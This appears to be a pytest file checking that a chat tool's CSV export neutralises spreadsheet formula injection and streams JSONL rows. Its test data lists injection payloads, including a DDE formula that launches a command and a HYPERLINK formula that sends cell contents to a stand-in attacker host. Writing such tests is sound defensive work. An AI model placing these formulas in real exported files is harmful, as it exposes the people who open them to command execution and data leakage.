"""What a spreadsheet would run is shown, in whatever column it stands."""

import csv
import io
import json
from datetime import UTC, datetime

import pytest

from chatkit.owner import export_files

FORMULAS = (
    "=1+1",
    "+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    " =cmd|' /C calc'!A0",
    "\ufeff=1",
    "\u00a0=1",
    "＝1+1",
    '=HYPERLINK("https://evil.example/?"&A1)',
)


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_cell_begins_as_a_formula(formula: str) -> None:
    text = "".join(export_files.as_csv(["question"], [{"question": formula}]))
    [_, [cell]] = csv.reader(io.StringIO(text, newline=""))
    assert cell == f"'{formula}"


@pytest.mark.parametrize("text", ["How?", "a=1", '"quoted", and\nmore', "", "灯台", "'=1"])
def test_any_other_text_stays_as_it_is(text: str) -> None:
    written = "".join(export_files.as_csv(["a", "b"], [{"a": text, "b": None}]))
    assert list(csv.reader(io.StringIO(written, newline=""))) == [["a", "b"], [text, ""]]


def test_a_line_of_json_holds_a_row_as_it_is() -> None:
    rows = [{"text": "=1\n\u2028灯", "cited": ["/a"], "at": datetime(2026, 1, 2, tzinfo=UTC)}]
    [line] = "".join(export_files.as_jsonl(rows)).split("\n")[:-1]
    assert json.loads(line) == {"text": "=1\n\u2028灯", "cited": ["/a"], "at": "2026-01-02T00:00:00Z"}


def test_rows_are_not_gathered_before_they_are_written() -> None:
    made = 0

    def rows() -> object:
        nonlocal made
        while True:
            made += 1
            yield {"text": "x" * 1_000}

    pieces = export_files.as_jsonl(rows())  # type: ignore[arg-type]
    assert len(next(pieces)) < 2 * export_files.PIECE_CHARACTERS
    assert made < 100
